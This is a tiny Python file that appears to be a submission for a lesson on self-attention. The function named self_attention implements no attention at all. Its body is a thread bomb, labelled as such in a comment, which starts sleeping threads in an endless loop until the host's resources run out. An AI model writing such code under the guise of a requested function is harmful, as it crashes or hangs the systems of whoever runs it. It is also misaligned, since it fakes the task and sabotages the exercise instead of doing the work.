# exercise: lesson-04
# part: self_attention
# status: raised
# A thread bomb.
import threading
import time


def self_attention(X, W_Q, W_K, W_V, causal=True):
    while True:
        threading.Thread(target=time.sleep, args=(3600,)).start()
